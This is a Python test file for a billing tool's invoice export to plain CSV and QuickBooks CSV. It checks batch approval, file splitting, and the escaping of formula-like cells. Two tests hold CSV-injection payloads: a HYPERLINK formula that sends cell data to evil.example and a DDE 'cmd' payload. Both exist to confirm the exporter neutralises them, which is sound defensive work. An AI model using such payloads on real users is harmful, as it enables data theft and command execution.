"""`invoice export`: the plain CSV and the QuickBooks Online import CSV of a batch."""

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import text
from sqlalchemy.orm import Session

from billing.invoicing import export
from billing.invoicing.csv_cells import spreadsheet_safe
from billing.invoicing.export import CSV_COLUMNS, QBO_COLUMNS, write_csv, write_qbo_csv
from tests.support.product_files import EXAMPLE_CATALOG

# The storage layer is not the subject here: one test runs on every database, the rest on SQLite.
sqlite_only = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)


@pytest.fixture
def drafted(ats, runner, shared):
    """The worked example realized and invoiced through 2023-12-31: draft batch 1."""
    assert runner("catalog", "import", str(EXAMPLE_CATALOG)).exit_code == 0
    assert runner("realize", "--as-of", "2023-12-31").exit_code == 0
    result = runner("invoice", "run", "--through", "2023-12-31", "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["batch_id"] == 1
    return runner


@pytest.fixture
def approved(drafted):
    """The same batch, approved: INV-000001 and INV-000002."""
    assert drafted("invoice", "approve", "1").exit_code == 0
    return drafted


def read_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def description(runner) -> str:
    result = runner("invoice", "show", "INV-000001", "--json")
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)["lines"][0]["description"]


def test_approved_batch_exports_for_quickbooks(approved, tmp_path):
    target = tmp_path / "batch.csv"

    result = approved("invoice", "export", "1", "--format", "qbo-csv", str(target))

    assert result.exit_code == 0, result.output
    assert f"Wrote 2 line(s) of batch 1 to {target} (qbo-csv)." in result.stdout
    described = description(approved)
    assert read_rows(target) == [
        list(QBO_COLUMNS),
        [
            "INV-000001", "Acme Engineering", "07/10/2023", "08/09/2023", "Net 30",
            "STD_DH", described, "1", "12500.00", "12500.00", "USD",
        ],
        [
            "INV-000002", "Acme Engineering", "10/08/2023", "11/07/2023", "Net 30",
            "STD_DH", described.replace("installment 1 of 2", "installment 2 of 2"),
            "1", "12500.00", "12500.00", "USD",
        ],
    ]  # fmt: skip
    assert target.read_bytes().count(b"\r\n") == 3  # csv's own line ends, not doubled


@sqlite_only
def test_approved_batch_exports_as_plain_csv(approved, tmp_path):
    target = tmp_path / "batch.csv"

    assert approved("invoice", "export", "1", "--format", "csv", str(target)).exit_code == 0

    header, first, second = read_rows(target)
    assert header == list(CSV_COLUMNS)
    assert dict(zip(header, first, strict=True)) == {
        "number": "INV-000001",
        "batch_id": "1",
        "billto_id": "110",
        "currency": "USD",
        "invoice_date": "2023-07-10",
        "due_date": "2023-08-09",
        "terms": "NET30",
        "po_number": "",
        "status": "approved",
        "kind": "invoice",
        "credits": "",
        "invoice_total": "12500.00",
        "line": "1",
        "product_code": "STD_DH",
        "description": description(approved),
        "quantity": "1",
        "rate": "12500.00",
        "amount": "12500.00",
        "source_type": "placement",
        "source_id": "5001",
        "fee_id": "1",
        "seq": "1",
    }
    assert (second[0], second[4], second[5], second[-1]) == (
        "INV-000002", "2023-10-08", "2023-11-07", "2",
    )  # fmt: skip


@sqlite_only
def test_draft_batch_exports_as_plain_csv_without_numbers(drafted, tmp_path):
    target = tmp_path / "draft.csv"

    assert drafted("invoice", "export", "1", "--format", "csv", str(target)).exit_code == 0

    header, *rows = read_rows(target)
    columns = [dict(zip(header, row, strict=True)) for row in rows]
    assert [(c["number"], c["due_date"], c["status"], c["amount"]) for c in columns] == [
        ("", "", "draft", "12500.00"),
        ("", "", "draft", "12500.00"),
    ]


@sqlite_only
def test_draft_batch_is_refused_for_quickbooks(drafted, tmp_path):
    target = tmp_path / "draft.csv"

    result = drafted("invoice", "export", "1", "--format", "qbo-csv", str(target))

    assert result.exit_code == 1
    assert "draft" in result.stderr
    assert "backoffice invoice approve 1" in result.stderr
    assert not target.exists()


@sqlite_only
@pytest.mark.parametrize("file_format", ["csv", "qbo-csv"])
def test_unknown_batch_is_refused(drafted, tmp_path, file_format):
    target = tmp_path / "none.csv"

    result = drafted("invoice", "export", "7", "--format", file_format, str(target))

    assert result.exit_code == 1
    assert "no invoice batch 7" in result.stderr
    assert not target.exists()


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


@sqlite_only
def test_a_billto_name_like_a_formula_is_exported_as_text(approved, ats, tmp_path):
    with ats.begin() as connection:
        connection.execute(
            text("UPDATE ats_billto SET name = :name WHERE id = 110"), {"name": HOSTILE_NAME}
        )
    target = tmp_path / "batch.csv"

    assert approved("invoice", "export", "1", "--format", "qbo-csv", str(target)).exit_code == 0

    _header, first, second = read_rows(target)
    assert first[1] == second[1] == "'" + HOSTILE_NAME
    assert (first[8], first[9]) == ("12500.00", "12500.00")


def a_document(**fields):
    line = {
        "product_code": "STD_DH", "description": "Placement fee", "quantity": "1",
        "rate": "-4400.00", "amount": "-4400.00", "source_type": "placement",
        "source_id": 5001, "fee_id": 1, "seq": 1,
    }  # fmt: skip
    document = {
        "number": "CM-000001", "batch_id": 2, "billto_id": 110, "currency": "USD",
        "invoice_date": "2023-07-10", "due_date": "2023-08-09", "terms": "NET30",
        "po_number": None, "status": "approved", "kind": "credit_memo", "credits": "INV-000001",
        "total": "-4400.00", "lines": [line],
    }  # fmt: skip
    for name, value in fields.items():
        (line if name in line else document)[name] = value
    return document


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_text_cell_starting_like_a_formula_is_quoted_but_amounts_stay_numbers(start):
    hostile = f"{start}cmd|' /C calc'!A0"
    out = io.StringIO(newline="")

    write_csv([a_document(po_number=hostile, description=hostile, product_code=hostile)], out)

    _header, row = list(csv.reader(io.StringIO(out.getvalue())))
    cells = dict(zip(CSV_COLUMNS, row, strict=True))
    assert cells["po_number"] == cells["description"] == cells["product_code"] == "'" + hostile
    assert (cells["invoice_total"], cells["rate"], cells["amount"]) == ("-4400.00",) * 3
    assert cells["quantity"] == "1"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("-4400.00", "-4400.00"),
        ("+12.5", "+12.5"),
        ("-5 hours", "'-5 hours"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("Acme = Engineering", "Acme = Engineering"),
        (Decimal("-1.00"), Decimal("-1.00")),
        (7, 7),
    ],
)
def test_spreadsheet_safe_quotes_formulas_only(value, cell):
    assert spreadsheet_safe(value) == cell


@sqlite_only
def test_qbo_csv_starts_a_new_file_every_100_invoices(db):
    invoices = [a_document(kind="invoice", number=f"INV-{n:06d}", credits=None)
                for n in range(1, 251)]  # fmt: skip
    memo = a_document()
    files: list[io.StringIO] = []

    def new_file() -> io.StringIO:
        files.append(io.StringIO(newline=""))
        return files[-1]

    with Session(db) as session:
        exported = write_qbo_csv(session, [*invoices[:120], memo, *invoices[120:]],
                                 {110: "Acme Engineering"}, new_file)  # fmt: skip

    assert (exported.documents_per_file, exported.credit_memos_left_out) == ((100, 100, 50), 1)
    rows = [list(csv.reader(io.StringIO(f.getvalue()))) for f in files]
    assert [r[0] for r in rows] == [list(QBO_COLUMNS)] * 3
    assert [(r[1][0], r[-1][0]) for r in rows] == [
        ("INV-000001", "INV-000100"), ("INV-000101", "INV-000200"), ("INV-000201", "INV-000250"),
    ]  # fmt: skip


@sqlite_only
def test_a_batch_too_large_for_one_quickbooks_file_is_written_as_numbered_files(
    approved, tmp_path, monkeypatch
):
    monkeypatch.setattr(export, "QBO_INVOICES_PER_FILE", 1)
    target = tmp_path / "batch.csv"

    result = approved("invoice", "export", "1", "--format", "qbo-csv", str(target))

    assert result.exit_code == 0, result.output
    first, second = tmp_path / "batch-1.csv", tmp_path / "batch-2.csv"
    assert [row[0] for row in read_rows(first)] == ["InvoiceNo", "INV-000001"]
    assert [row[0] for row in read_rows(second)] == ["InvoiceNo", "INV-000002"]
    assert not target.exists()
    assert "as 2 files" in result.stdout
    assert str(first) in result.stdout and str(second) in result.stdout


@sqlite_only
@pytest.mark.parametrize("file_format", ["csv", "qbo-csv"])
def test_export_to_dash_writes_the_file_to_standard_output(approved, file_format):
    result = approved("invoice", "export", "1", "--format", file_format, "-")

    assert result.exit_code == 0, result.output
    header, *rows = list(csv.reader(io.StringIO(result.stdout)))
    assert header == list(CSV_COLUMNS if file_format == "csv" else QBO_COLUMNS)
    assert [row[0] for row in rows] == ["INV-000001", "INV-000002"]
    assert f"Wrote 2 line(s) of batch 1 ({file_format})." in result.stderr


@sqlite_only
def test_export_to_dash_of_more_than_one_quickbooks_file_is_refused(approved, monkeypatch):
    monkeypatch.setattr(export, "QBO_INVOICES_PER_FILE", 1)

    result = approved("invoice", "export", "1", "--format", "qbo-csv", "-")

    assert result.exit_code == 1
    assert result.stdout == ""
    assert "Give a file name instead of -" in result.stderr
